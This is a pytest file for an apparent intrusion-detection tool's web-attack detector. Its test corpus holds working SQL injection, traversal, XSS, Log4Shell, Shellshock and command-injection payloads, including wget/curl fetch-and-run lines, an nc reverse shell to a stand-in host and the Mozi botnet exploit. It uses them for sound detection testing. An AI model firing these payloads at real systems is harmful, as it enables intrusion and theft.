"""web_attack: real attack payloads found with the right subkind, real benign traffic quiet, explained alerts."""

from __future__ import annotations

import gzip
import json
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from netwarden.collect.pcap import read_events
from netwarden.detect._web_decoding import normalise
from netwarden.detect._web_inspect import inspect_url
from netwarden.detect.engine import DetectionEngine
from netwarden.detect.web_attack import WebAttack
from netwarden.parse import get_parser
from netwarden.parse.base import ParseContext, ParseError
from netwarden.records import AlertStatus, Event, Severity
from netwarden.store import alerts as alert_store

T0 = datetime(2026, 11, 21, 10, 0, tzinfo=timezone.utc)
CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/120.0.0.0 Safari/537.36")


def req(url: str, src: str = "203.0.113.5", status: int | None = 404, *, ua: str | None = CHROME, second: float = 0,
        size: int | None = 512, **extra: object) -> Event:
    return Event(timestamp=T0 + timedelta(seconds=second), source_kind="access_log", src_ip=src, dst_ip="192.0.2.10",
                 dst_port=80, http_method="GET", url=url, http_status=status, user_agent=ua, bytes_in=size,
                 extra=dict(extra))


def run(events: list[Event], **settings: object) -> list:
    engine = DetectionEngine([WebAttack(settings or None)])
    for i in range(0, len(events), 500):
        engine.process(events[i:i + 500])
    return engine.alerts


# -- a corpus of real attack payloads: sqlmap, OWASP testing guide / cheat sheets, Log4Shell, botnets -----

ATTACKS = {
    "sqli": [
        "/item.php?id=1' OR '1'='1", "/item.php?id=1%27%20OR%20%271%27%3D%271", "/item.php?id=1 OR 1=1",
        "/item.php?id=1' OR 1=1--", "/login.php?user=admin'--&pass=x", "/login.php?user=admin'%23&pass=x",
        "/item.php?id=-1 UNION SELECT 1,2,3--",
        "/item.php?id=-1+UNION+ALL+SELECT+NULL,NULL,CONCAT(0x71766a7a71,0x4a4b,0x7170767071)--+-",
        "/item.php?id=1 UN/**/ION SE/**/LECT username,password FROM users",
        "/item.php?id=1/**/union/**/select/**/1,2,3", "/item.php?id=1 /*!50000union*/ /*!50000select*/ 1,2,3",
        "/item.php?id=1%2527%2520union%2520select%25201%252C2", "/item.php?id=1 AND 5432=5432",
        "/item.php?id=1' AND 'xYzA'='xYzA", "/item.php?id=1 AND SLEEP(5)",
        "/item.php?id=1' AND (SELECT 4589 FROM (SELECT(SLEEP(5)))abcd)-- kxyz",
        "/item.php?id=1; WAITFOR DELAY '0:0:5'--", "/item.php?id=1' AND BENCHMARK(5000000,MD5(1))#",
        "/item.php?id=1); SELECT pg_sleep(5)--", "/item.php?id=1'; DROP TABLE users--",
        "/item.php?id=1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)",
        "/item.php?id=1 AND extractvalue(1,concat(0x7e,version()))",
        "/item.php?id=1 AND updatexml(1,concat(0x7e,(SELECT user())),1)", "/item.php?id=1' ORDER BY 3--+",
        "/item.php?id=1 AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END)=1", "/item.php?id=%u0027%u0020or%u00201=1",
        "/item.php?id=%26%2339%3B%20or%20%26%2339%3Ba%26%2339%3B%3D%26%2339%3Ba", "/item.php?id=1'||'1'='1",
        "/search?q=' or ''='", "/item.php?id=1;EXEC xp_cmdshell('dir')", "/item.php?id=1' and load_file('/etc/passwd')#",
        "/item.php?id=1 union%0aselect%0a1,2", "/item.php?id=1%09union%09select%091,@@version",
        "/item.php?id=(SELECT password FROM users WHERE id=1)", "/products/1'%20union%20select%201,2,3--",
        "/item.php?id=1%00' union select 1,2",
    ],
    "traversal": [
        "/index.php?page=../../../../etc/passwd", "/index.php?page=..%2f..%2f..%2fetc%2fpasswd",
        "/index.php?page=%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/index.php?page=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/index.php?page=%252e%252e%252f%252e%252e%252fetc%252fpasswd", "/index.php?page=....//....//....//etc/passwd",
        "/index.php?page=..\\..\\..\\windows\\win.ini", "/index.php?page=..%5c..%5c..%5cwindows%5cwin.ini",
        "/index.php?page=../../../../etc/passwd%00", "/index.php?page=../../../../etc/passwd%00.jpg",
        "/index.php?page=..%c0%af..%c0%af..%c0%afetc/passwd", "/index.php?page=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "/index.php?file=/etc/passwd", "/index.php?file=C:\\Windows\\win.ini",
        "/index.php?page=php://filter/convert.base64-encode/resource=index.php", "/index.php?file=../config.php",
        "/static/..%2f..%2f..%2fetc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
        "/download?file=..%252f..%252f..%252fetc%252fshadow", "/index.php?page=../../../../proc/self/environ",
        "/app/..;/..;/WEB-INF/web.xml", "/index.php?file=file:///etc/passwd",
    ],
    "xss": [
        "/search?q=<script>alert(1)</script>", "/search?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E",
        "/search?q=%253Cscript%253Ealert(1)%253C/script%253E", "/search?q=<img src=x onerror=alert(1)>",
        "/search?q=<svg/onload=alert(1)>", "/search?q=\"><script>alert(1)</script>",
        "/search?q=\" onmouseover=\"alert(1)", "/search?q=javascript:alert(1)", "/search?q=<iframe src=javascript:alert(1)>",
        "/search?q=<body onload=alert('XSS')>", "/search?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;",
        "/search?q=%26%2360;script%26%2362;alert(1)%26%2360;/script%26%2362;", "/search?q=<ScRiPt>alert(1)</sCrIpT>",
        "/search?q=';alert(String.fromCharCode(88,83,83))//", "/search?q=<details open ontoggle=alert(1)>",
        "/search?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    ],
    "cmdi": [
        "/ping.php?ip=127.0.0.1;id", "/ping.php?ip=127.0.0.1|cat /etc/passwd", "/ping.php?ip=127.0.0.1%20%26%26%20whoami",
        "/ping.php?ip=127.0.0.1 && whoami", "/ping.php?ip=127.0.0.1%0aid", "/ping.php?ip=`id`", "/ping.php?ip=$(whoami)",
        "/ping.php?ip=127.0.0.1;wget http://203.0.113.9/x.sh -O /tmp/x;sh /tmp/x",
        "/ping.php?ip=127.0.0.1|nc -e /bin/sh 203.0.113.9 4444", "/ping.php?ip=;cat${IFS}/etc/passwd",
        "/ping.php?ip=127.0.0.1 | ls -la", "/cgi-bin/test.cgi?x=;/bin/bash -c 'id'",
        ("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+"
         "/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1"),
        "/ping.php?ip=127.0.0.1||curl http://203.0.113.9/s|bash", "/ping.php?ip=127.0.0.1 %26 ipconfig",
        "/shell?cmd=cmd.exe /c dir",
    ],
    "rfi": [
        "/index.php?page=http://203.0.113.9/shell.txt?", "/index.php?page=http://evil.example.com/shell.txt",
        "/index.php?include=https://evil.example.com/c99.php", "/index.php?file=ftp://203.0.113.9/shell.php",
        "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "/fetch?url=http://127.0.0.1:6379/", "/index.php?page=php://input",
        "/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=",
        "/index.php?page=expect://id", "/fetch?url=gopher://127.0.0.1:6379/_FLUSHALL", "/index.php?x=http://203.0.113.9/x.txt",
    ],
    "jndi": [
        "/?x=${jndi:ldap://203.0.113.9:1389/a}", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%3A1389%2Fa%7D",
        "/?x=${${lower:j}ndi:${lower:l}dap://x.example.com/a}",
        "/?x=${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example.com/a}",
        "/?x=${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example.com/a}",
        "/${jndi:dns://x.example.com/a}", "/?x=${jndi:rmi://203.0.113.9/a}", "/?x=${${upper:j}ndi:ldap://x/a}",
    ],
    "sensitive_file": [
        "/.env", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.svn/wc.db", "/.hg/store", "/.DS_Store",
        "/backup.zip", "/backup.sql", "/db.sql", "/dump.sql.gz", "/www.tar.gz", "/site.zip", "/wp-config.php.bak",
        "/wp-config.php~", "/config.php.bak", "/index.php.bak", "/.htpasswd", "/.htaccess", "/phpmyadmin/",
        "/phpMyAdmin/scripts/setup.php", "/pma/", "/myadmin/index.php", "/adminer.php", "/etc/passwd",
        "/.aws/credentials", "/.ssh/id_rsa", "/WEB-INF/web.xml", "/phpinfo.php", "/server-status", "/.env.production",
        "/api/.env", "/manager/html", "/database.sql", "/.bash_history", "/web.config",
    ],
}


@pytest.mark.parametrize("subkind,url", [(k, u) for k, urls in ATTACKS.items() for u in urls])
def test_every_payload_of_the_corpus_is_found_with_its_subkind(subkind: str, url: str) -> None:
    found = {m.subkind: m for m in inspect_url(url)}
    assert subkind in found, f"{url} not recognised as {subkind}: {found}"
    assert found[subkind].text  # the matched text is shown


# lookalikes from real sites: quotes in names, "&" in words, searches about SQL, HTML in parameters
BENIGN = [
    "/search?q=rock+and+roll", "/search?q=select+a+wine+from+rioja", "/search?q=Tom+%26+Jerry", "/search?q=O'Reilly",
    "/search?q=it's+5+o'clock", "/search?q=union+station", "/api?filter=name%3D%27x%27", "/search?q=cats+%7C+dogs",
    "/search?q=C%2B%2B", "/search?q=1%3D1", "/search?q=black+or+white", "/search?q=true+or+false", "/search?q=%3C3",
    "/search?q=a+%3C+b", "/page?redirect=https://www.example.com/next", "/img/../logo.png", "/download/report.tar.gz",
    "/files/logstash-1.1.0.tar.gz", "/search?q=sleep+apnea", "/search?q=drop+table+ideas", "/calc?expr=(1+2)*3",
    "/search?q=%22quoted+phrase%22", "/?callback=jQuery1234_5678", "/search?q=I+can't+stop;+cat+videos",
    "/search?q=say+'hello'+or+'hi'", "/search?q=order+by+1", "/wiki/Union_(set_theory)", "/?q=javascript:+the+good+parts",
    "/?next=/account/settings", "/?q=100%25+cotton", "/?q=50%", "/?q=%E2%82%AC", "/static/app.js?v=1.2.3",
    "/?q=me+%26+you", "/?q=rm+-rf", "/?q=echo+%22hi%22", "/?sort=name;desc", "/?q=Tom+%26+cat", "/?q=dogs+%26%26+cats",
    "/?q=%3Cb%3Ebold%3C/b%3E", "/?text=%3Cp%3EHello%3C%2Fp%3E", "/?template=default&page=2",
    "/?url=https://example.com/page", "/login?next=http://localhost:8080/app", "/?q=${name}", "/?q=what+is+1+or+2",
    "/?name=D%27Amico+or+Smith", "/?q=the+%22best%22+or+%22worst%22", "/?q=php+include+tutorial",
    "/?q=%2Fetc%2Fhosts+file+format", "/?q=alert+box", "/?q=email%40example.com", "/?q=a--b", "/blog/2013/05/c%23-tips",
    "/?q=sleep(8h)", "/?q=hello%0aworld", "/?q=%3Ca+href%3D%22x%22%3Elink%3C%2Fa%3E", "/?q=cmd", "/wp-admin/",
    "/wp-login.php", "/administrator/", "/admin.php", "/robots.txt", "/.well-known/acme-challenge/abc",
    "/.well-known/security.txt", "/sitemap.xml.gz", "/~user/index.html", "/?a=1&b=2&&c=3", "/?q=R%26D+dept",
    "/?html=%3Cimg%20src%3D%22/logo.png%22%3E", "/scripts//%22$%7BWEBLOC%7D/view.php?file=$%7Blinkto%7D%5C%22",
    "/b/ss/wdgespcom/1/H.21/s3862?t=7/3/2010%2012%3A29%3A31%203%20300&g=http%3A//espn.go.com/&cc=USD",
]


@pytest.mark.parametrize("url", BENIGN)
def test_benign_lookalikes_match_nothing(url: str) -> None:
    assert inspect_url(url) == []


def test_decoding_undoes_evasions() -> None:
    assert normalise("%2527%20UN/**/ION%20SE/**/LECT")[0] == "' union select"
    text, evasion = normalise("..%c0%af..%c0%afetc%252fpasswd%00.png")
    assert text == "../../etc/passwd.png" and set(evasion) == {"overlong utf-8", "double encoding", "null byte"}
    assert normalise("%u003cscript%u003e")[0] == "<script>"
    assert normalise("&#x3C;svg&#62;&lt;")[0] == "<svg><"
    assert normalise("a+b%2Bc")[0] == "a b+c"  # "+" is a space, an encoded plus is a plus
    assert normalise("&cat=5&para=1")[0] == "&cat=5&para=1"  # query separators are not HTML entities


# -- real benign traffic -------------------------------------------------------------------------------


def csic_events(datasets: Path) -> list[Event]:
    """CSIC 2010 normal training traffic: raw HTTP requests; POST bodies become the query, as in the brief."""
    with gzip.open(datasets / "csic-2010/normalTrafficTraining.txt.gz", "rt", encoding="latin-1") as f:
        lines = f.read().splitlines()
    events, i, n = [], 0, 0
    while i < len(lines):
        if not lines[i].startswith(("GET ", "POST ", "PUT ")):
            i += 1
            continue
        method, url = lines[i].split(" ")[:2]
        agent, j = None, i + 1
        while j < len(lines) and lines[j]:
            if lines[j].startswith("User-Agent:"):
                agent = lines[j][11:].strip()
            j += 1
        if method != "GET" and j + 1 < len(lines) and lines[j + 1]:
            url += ("&" if "?" in url else "?") + lines[j + 1]
            j += 1
        events.append(Event(timestamp=T0 + timedelta(seconds=n), source_kind="http", src_ip=f"10.1.{n // 250 % 250}.{n % 250}",
                            http_method=method, url=url, user_agent=agent, http_status=200))
        n += 1
        i = j + 1
    return events


def access_log_events(datasets: Path) -> list[Event]:
    parser = get_parser("access_log")(ParseContext())
    with gzip.open(datasets / "web-access-logs/apache_logs.gz", "rt") as f:
        return [e for line in f if (e := parser.parse_line(line.rstrip("\n"))) is not None]


def test_csic_normal_traffic_raises_no_alert(datasets: Path) -> None:
    events = csic_events(datasets)
    assert len(events) == 36_000
    detector = WebAttack()
    findings = [f for i in range(0, len(events), 1000) for f in detector.process(events[i:i + 1000])]
    # measured false-positive rate: 0 of 36,000 requests (quotes in names like O'Neil, Ivars d'Urgell,
    # Latin-1 accents, "+" spaces, e-mail addresses and passwords with $ ? * are all ordinary values)
    assert findings == []


def test_benign_access_log_raises_no_alert(datasets: Path) -> None:
    events = access_log_events(datasets)
    assert len(events) == 10_000
    assert run(events) == []


@pytest.mark.parametrize("name", ["http_google", "http_espn", "tcp_ports", "dns_query_response", "http_dvwa_clearlogin"])
def test_benign_captures_raise_no_alert(datasets: Path, name: str) -> None:
    events, _ = read_events(datasets / f"pcaps/chrissanders-packets/{name}.pcapng")
    assert run(events) == []


# -- real attacks --------------------------------------------------------------------------------------


def test_dvwa_sql_injection_capture(datasets: Path) -> None:
    events, _ = read_events(datasets / "pcaps/chrissanders-packets/http_dvwa_sqlinjection.pcapng")
    events2, _ = read_events(datasets / "pcaps/chrissanders-packets/http_dvwa_sqlinjection_passwords.pcapng")
    [alert] = run(events + events2)
    assert (alert.kind, alert.subkind, alert.source, alert.target) == ("web_attack", "sqli", "10.2.2.101", "10.2.2.104")
    assert alert.severity == Severity.HIGH and alert.count == 4 and alert.confidence > 0.9
    assert "union select" in alert.evidence["matched"] and "or '0'='0" in alert.evidence["matched"]
    assert alert.evidence["status_codes"] == {"200": 4}
    assert any("concat(first_name" in m for m in alert.evidence["matched"])
    assert {f.name for f in alert.factors} >= {"pattern", "answered", "repeated"}
    assert "10.2.2.101" in alert.recommendation and "parameter 'id'" in alert.recommendation
    assert "/dvwa/vulnerabilities/sqli/" in alert.recommendation and alert.signature.startswith("sqli:")


def test_dvwa_directory_traversal_capture(datasets: Path) -> None:
    events, _ = read_events(datasets / "pcaps/chrissanders-packets/http_dvwa_directorytraversal.pcapng")
    [alert] = run(events)
    assert alert.subkind == "traversal" and alert.severity == Severity.HIGH
    assert alert.evidence["matched"] == ["../../../../../../etc/passwd"]
    assert alert.signature == "traversal:traversal-target"
    assert "parameter 'page'" in alert.recommendation


def test_real_internet_probes_in_suricata_eve(datasets: Path) -> None:
    parser = get_parser("suricata_eve")(ParseContext())
    events = []
    with gzip.open(datasets / "suricata-eve/test6-malicious.suricata.json.gz", "rt") as f:
        for line in f:
            try:
                if (e := parser.parse_line(line)) is not None:
                    events.append(e)
            except ParseError:  # the capture's few damaged lines are quarantined by ingest
                pass
    alerts = {(a.source, a.subkind): a for a in run(events)}
    pma = alerts[("45.144.225.135", "sensitive_file")]  # phpMyAdmin setup.php under five names: a scan
    assert pma.severity == Severity.MEDIUM and len(pma.evidence["paths"]) == 5
    mozi = alerts[("120.85.91.67", "cmdi")]  # the Mozi botnet's Netgear exploit
    assert "wget http://192.168.1.1:8088/mozi.m" in mozi.evidence["matched"][0]
    assert alerts[("103.123.66.194", "sensitive_file")].severity == Severity.LOW  # one /.env probe
    assert alerts[("162.62.123.46", "scanner_tool")].evidence["tool"].startswith("Nmap")  # nmap -sV probe
    assert alerts[("109.74.21.48", "scanner_tool")].severity == Severity.LOW  # masscan sweeps everyone
    assert {s for s, _ in alerts} <= {"45.144.225.135", "120.85.91.67", "125.46.137.253", "112.94.99.244",
                                      "103.123.66.194", "51.81.242.166", "162.62.123.46", "83.41.123.192",
                                      "109.74.21.48"}


TOOLS = {
    "sqlmap/1.7.2#stable (https://sqlmap.org)": "sqlmap",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)": "Nikto",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)": "Nmap NSE",
    "gobuster/3.6": "gobuster", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)":
    "DirBuster", "Wfuzz/3.1.0": "wfuzz", "Fuzz Faster U Fool v2.1.0-dev": "ffuf", "Mozilla/4.0 (Hydra)": "THC Hydra",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)": "nuclei", "WPScan v3.8.25 (https://wpscan.com/)":
    "WPScan", "Mozilla/5.0 (compatible; MSIE 9.0) Acunetix": "Acunetix", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)":
    "masscan", "Mozilla/5.0 zgrab/0.x": "zgrab", "Mozilla/5.0 (compatible; Nessus)": "Nessus", "feroxbuster/2.10.1": "feroxbuster",
}


def test_attack_tools_by_user_agent() -> None:
    events = [req("/", f"198.51.100.{i}", 200, ua=ua) for i, ua in enumerate(TOOLS)]
    events.append(req("/", "198.51.100.200", 200))  # a browser
    alerts = {a.source: a for a in run(events)}
    assert len(alerts) == len(TOOLS)
    for i, tool in enumerate(TOOLS.values()):
        a = alerts[f"198.51.100.{i}"]
        assert (a.subkind, a.evidence["tool"]) == ("scanner_tool", tool)
        assert a.severity == (Severity.LOW if tool in ("masscan", "zgrab") else Severity.MEDIUM)
    quiet = run(events, report_internet_scanners=False, ignore_sources=["198.51.100.0/30"])
    assert {a.source for a in quiet} == {f"198.51.100.{i}" for i in range(4, len(TOOLS))} - {"198.51.100.11",
                                                                                          "198.51.100.12"}


def test_nikto_scan_mixed_with_ordinary_users(datasets: Path) -> None:
    """A Nikto-style scan interleaved with a real access log: only the scanner is alerted, on every count."""
    nikto_urls = ["/", "/.git/HEAD", "/.env", "/backup.tar.gz", "/phpmyadmin/", "/index.php?id=1'+or+'1'='1",
                  "/search.php?q=<script>alert(1)</script>", "/../../../../../../etc/passwd",
                  "/cgi-bin/test.sh?x=;cat+/etc/passwd", "/index.php?page=http://cirt.net/rfiinc.txt?",
                  "/config.php.bak", "/server-status"]
    benign = access_log_events(datasets)[:3000]
    events = list(benign)
    for i, url in enumerate(nikto_urls * 5):
        events.insert(i * 40, req(url, "203.0.113.66", 404, ua=f"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) "
                                                              f"(Test:{i:06d})", second=i))
    alerts = run(events)
    assert {a.source for a in alerts} == {"203.0.113.66"}
    by_kind = {a.subkind: a for a in alerts}
    assert set(by_kind) == {"scanner_tool", "sensitive_file", "sqli", "xss", "traversal", "cmdi", "rfi"}
    assert by_kind["scanner_tool"].evidence["tool"] == "Nikto" and by_kind["scanner_tool"].count == 60
    assert by_kind["sensitive_file"].severity == Severity.MEDIUM  # many probes, all refused
    assert by_kind["sqli"].severity == Severity.MEDIUM  # refused (404)
    assert any(f.name == "tool_user_agent" for f in by_kind["sqli"].factors)


def test_evaluation_sees_every_contributing_event() -> None:
    events = [req(f"/item?id={i}'+or+'1'='1", second=i) for i in range(120)] + [req("/index.html", second=200)]
    engine = DetectionEngine([WebAttack(keep_events=True)], keep_events=True)
    engine.process(events)
    assert len(engine.flagged) == 120 and id(events[-1]) not in engine.flagged


def test_gobuster_directory_scan() -> None:
    words = ["admin", "images", "login", "backup", ".git/HEAD", ".env", "backup.zip", "db.sql", "wp-config.php.bak",
             "test", "old", "uploads", ".htpasswd", "phpmyadmin"]
    events = [req(f"/{w}", "203.0.113.77", 404, ua="gobuster/3.6", second=i) for i, w in enumerate(words * 3)]
    alerts = {a.subkind: a for a in run(events)}
    assert set(alerts) == {"scanner_tool", "sensitive_file"}
    assert alerts["scanner_tool"].count == len(events)
    sens = alerts["sensitive_file"]
    assert sens.severity == Severity.MEDIUM and len(sens.evidence["paths"]) == 7
    assert "searching for secrets" in sens.recommendation


# -- severity, confidence, explanation ---------------------------------------------------------------


def test_severity_follows_the_response() -> None:
    sqli = "/item.php?id=1'+union+select+1,2--"
    assert run([req(sqli, status=200)])[0].severity == Severity.HIGH
    assert run([req(sqli, status=None)])[0].severity == Severity.HIGH  # a capture without the response
    assert run([req(sqli, status=403)])[0].severity == Severity.MEDIUM
    assert run([req("/?q=<script>alert(1)</script>", status=404)])[0].severity == Severity.LOW
    assert run([req("/?q=<script>alert(1)</script>", status=200)])[0].severity == Severity.MEDIUM


def test_sensitive_file_single_probe_scan_and_exposure() -> None:
    [one] = run([req("/.env", status=404)])
    assert (one.subkind, one.severity) == ("sensitive_file", Severity.LOW)
    assert "One refused probe needs no action" in one.recommendation
    [scan] = run([req(p, status=404, second=i) for i, p in enumerate(["/.env", "/.git/config", "/backup.sql"])])
    assert scan.severity == Severity.MEDIUM and scan.evidence["paths"] == ["/.env", "/.git/config", "/backup.sql"]
    [served] = run([req("/.git/config", status=200, size=312)])
    assert served.severity == Severity.HIGH and "rotate every secret" in served.recommendation
    assert any(f.name == "served" and "312 bytes" in f.detail for f in served.factors)
    [empty] = run([req("/.env", status=200, size=0)])  # a 200 with no body exposed nothing
    assert empty.severity == Severity.LOW
    # the server's own monitoring polling /server-status is not a probe; the same request from outside is
    assert run([req("/server-status?auto", "127.0.0.1", 200)]) == []
    assert len(run([req("/server-status", "198.51.100.7", 403)])) == 1


def test_confidence_grows_with_evidence() -> None:
    [single] = run([req("/item.php?id=1'+or+'1'='1", status=404)])
    payloads = ATTACKS["sqli"][:20]
    alerts = run([req(u, "203.0.113.9", 200, ua="sqlmap/1.7.2#stable (https://sqlmap.org)", second=i)
                  for i, u in enumerate(payloads)])
    sqli = next(a for a in alerts if a.subkind == "sqli")
    assert 0.75 <= single.confidence < 0.9 < sqli.confidence
    names = {f.name for f in sqli.factors}
    assert names >= {"pattern", "repeated", "variety", "tool_user_agent", "answered"}
    assert sqli.count == 20 and sqli.evidence["requests"] == 20
    assert any(a.subkind == "scanner_tool" and a.evidence["tool"] == "sqlmap" for a in alerts)


def test_evidence_shows_decoded_text_and_evasion() -> None:
    [a] = run([req("/item.php?id=1%2527%2520UN/**/ION%2520SE/**/LECT%2520password%2520FROM%2520users", status=500)])
    assert a.evidence["matched"] == ["union select password from users"]
    assert "double encoding" in a.evidence["evasion"] and "sql comments" in a.evidence["evasion"]
    assert any(f.name == "evasion" for f in a.factors) and any(f.name == "server_error" for f in a.factors)
    assert a.evidence["where"] == ["parameter id"] and a.evidence["status_codes"] == {"500": 1}


def test_log4shell_and_shellshock_in_headers() -> None:
    events = [
        req("/", "203.0.113.20", 200, ua="${jndi:ldap://203.0.113.9:1389/Exploit}"),
        req("/", "203.0.113.21", 404, referrer="${${lower:j}ndi:rmi://x.example.com/a}"),
        req("/", "203.0.113.22", 400, host="${jndi:dns://x.example.com/h}"),
        req("/cgi-bin/status", "203.0.113.23", 200, ua="() { :; }; /bin/bash -c 'wget http://203.0.113.9/x'"),
        req("/", "203.0.113.24", 200, referrer="https://www.google.com/search?q=%24%7Bname%7D"),  # benign
    ]
    alerts = {a.source: a for a in run(events)}
    assert {s: a.subkind for s, a in alerts.items()} == {"203.0.113.20": "jndi", "203.0.113.21": "jndi",
                                                         "203.0.113.22": "jndi", "203.0.113.23": "cmdi"}
    assert alerts["203.0.113.20"].evidence["where"] == ["user agent"]
    assert alerts["203.0.113.21"].evidence["matched"] == ["${jndi:rmi://x.example.com/a}"]
    assert alerts["203.0.113.23"].signature == "cmdi:cmdi-shellshock"
    assert "Log4j" in alerts["203.0.113.20"].recommendation


def test_a_false_positive_is_silenced_for_that_rule_and_source_only(db) -> None:  # type: ignore[no-untyped-def]
    engine = DetectionEngine([WebAttack()], db)
    engine.process([req("/report?where=1+or+1=1", "192.0.2.50", 200)])
    with db.engine.begin() as conn:
        [alert] = alert_store.find_alerts(conn, alert_store.AlertFilter())
        assert alert.signature == "sqli:sqli-tautology"
        alert_store.set_status(conn, alert.id, AlertStatus.FALSE_POSITIVE, note="our reporting tool")
    fresh = DetectionEngine([WebAttack()], db)
    fresh.process([req("/report?where=2+or+2=2", "192.0.2.50", 200, second=7200),  # same rule: silenced
                   req("/report?where=1+union+select+password+from+users", "192.0.2.50", 200, second=7201),
                   req("/report?where=1+or+1=1", "198.51.100.3", 200, second=7202)])  # other source
    assert fresh.stats.suppressed == 1
    assert sorted((a.source, a.signature) for a in fresh.alerts) == [("192.0.2.50", "sqli:sqli-union"),
                                                                     ("198.51.100.3", "sqli:sqli-tautology")]


# -- state, memory, hostile input, cost ---------------------------------------------------------------


def test_state_survives_a_restart() -> None:
    first = WebAttack()
    first.process([req("/.env", second=0), req("/.git/config", second=10)])
    saved = json.loads(json.dumps(first.state()))
    second = WebAttack()
    second.restore(saved)
    [finding] = second.process([req("/backup.sql", second=20)])
    assert finding.severity == Severity.MEDIUM  # the third distinct path: the scan is recognised across the restart
    assert any(f.name == "distinct_paths" and f.detail.startswith("3 sensitive paths") for f in finding.factors)
    second.restore({"version": 1, "sources": [["x", "not a date", {}], None, 5]})  # damaged state: ignored
    second.restore({"version": 99})
    assert len(second.sources) == 1


def test_idle_sources_are_forgotten() -> None:
    d = WebAttack()
    d.process([req("/.env")])
    d.prune(T0 + timedelta(minutes=30))
    assert len(d.sources) == 1
    d.prune(T0 + timedelta(minutes=61))
    assert len(d.sources) == 0


def test_memory_is_bounded_under_a_spoofed_flood() -> None:
    d = WebAttack({"max_sources": 500})
    for batch in range(10):
        d.process([req(f"/x?id={batch}{i}'+or+'a'='a", f"10.{batch}.{i // 250}.{i % 250}", second=i)
                   for i in range(2000)])
    assert len(d.sources) == 500 and d.sources.evicted == 19_500
    assert len(d._url_cache) <= 8192 and len(d._ua_cache) <= 8192


HOSTILE = [
    "/?" + "a=%27" * 100_000, "/" + "%" * 50_000, "/?q=" + "%25" * 5000 + "27", "/\udcff\x00\x01?x=\udc80%",
    "/?x=%u12%uZZZZ%c0", "/?x=${" * 2000, "/?x=" + "${lower:" * 500 + "j}" * 500, "/?q=" + "<a " * 20000,
    "/?x=" + "/**/" * 20000 + "union select", "http://", "?", "", "/" + "../" * 30000 + "etc/passwd",
    "/?" + "&" * 50000, "/?x=" + "'" * 100000 + " or 1=1", "/?x=" + "a" * 1_000_000 + "' union select 1",
]


def test_hostile_values_never_raise_and_stay_bounded() -> None:
    d = WebAttack()
    events = [req(u, second=i) for i, u in enumerate(HOSTILE)]
    events += [Event(timestamp=None, source_kind="http", url="/?id=1'+or+1=1--", user_agent="\x00" * 10_000),
               Event(timestamp=T0, source_kind="pcap", src_ip=None, url=None, user_agent="sqlmap/1.0",
                     extra={"referrer": 5, "host": ["${jndi:"]}),
               req("/", ua="A" * 1_000_000 + "${jndi:ldap://x/a}", referrer="%" * 100_000)]
    started = time.perf_counter()
    findings = d.process(events)
    assert time.perf_counter() - started < 10
    assert all(len(f.evidence.get("matched", [""])[0]) < 400 for f in findings)
    assert any(f.subkind == "traversal" for f in findings)
    assert any(f.subkind == "scanner_tool" and f.source == "unknown" for f in findings)


@pytest.mark.parametrize("unit", ["..", "../", "..//", "..\\", "..;/", "/*!", "/*", "${", "${lower:", "' or '", "<a on",
                                  "%25", "%c0%ae", "&#39;", "(select ", "union select ", "a.", "/.", ";id", "|", "0x"])
def test_no_pathological_regex_on_repeated_fragments(unit: str) -> None:
    """Each signature runs in (near) linear time: 8 KiB of a repeated fragment costs milliseconds, not minutes."""
    text = unit * (8192 // len(unit))
    started = time.perf_counter()
    for url in ("/?x=" + text, "/" + text, "/?" + text + "=1"):
        inspect_url(url)
    WebAttack().process([req("/", ua=text, referrer=text)])
    assert time.perf_counter() - started < 5.0  # milliseconds when linear; minutes when it backtracks
